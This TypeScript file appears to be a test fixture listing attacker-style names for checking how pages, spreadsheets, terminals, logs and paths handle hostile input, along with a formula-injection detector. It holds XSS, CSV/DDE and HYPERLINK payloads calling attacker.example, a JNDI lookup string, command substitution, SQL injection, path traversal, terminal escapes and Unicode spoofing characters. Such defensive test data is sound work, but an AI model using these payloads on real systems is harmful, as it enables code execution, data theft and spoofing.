// Names as an attacker would choose them: for pages, spreadsheets, terminals, logs and paths.

export const HOSTILE_NAMES: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title><svg/onload=alert(1)>',
  '<!--',
  '&lt;script&gt;',
  '=HYPERLINK("http://attacker.example","click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '|calc',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'x;=HYPERLINK("http://attacker.example")',
  'x; -2+3',
  'a,b"c\nd',
  '\x1b[2J\x1b[H',
  '\x1b]52;c;ZXZpbA==\x07',
  '\x1b]8;;http://attacker.example\x1b\\click\x1b]8;;\x1b\\',
  '\x9b31m',
  '\x90q\x9c',
  'line\r\n2026-01-01 ERROR forged',
  'back\b\b\b\bspace',
  'null\0byte',
  '\u202egnp.exe',
  '\u2066isolate\u2069',
  'zero\u200bwidth',
  '\ufeffbom',
  'line\u2028separator',
  'tag\u{e0041}\u{e007f}',
  'filler\u3164\u115f\uffa0',
  'joiner\u034f\u180e',
  'note\u{1d173}\u{1bca0}',
  'lone\ud800surrogate',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f%2e%2e%2f',
  '__proto__',
  'constructor',
  '${jndi:ldap://attacker.example}',
  '{{7*7}}',
  '`id`',
  '$(id)',
  "'; DROP TABLE run; --",
  'ё'.repeat(1_000),
  '😀'.repeat(1_000),
  'x'.repeat(64 * 1024),
];

/** What makes a spreadsheet take a field for a formula, also where fields end at semicolons. */
export const FORMULA = /(^|;)\s*[=+\-@|＝＋－＠]/;

/** The text of a field of CSV without the apostrophes that keep it from being a formula. */
export function untamed(field: string): string {
  return field.replace(/(^|;)'(?=\s*[=+\-@|＝＋－＠])/g, '$1');
}
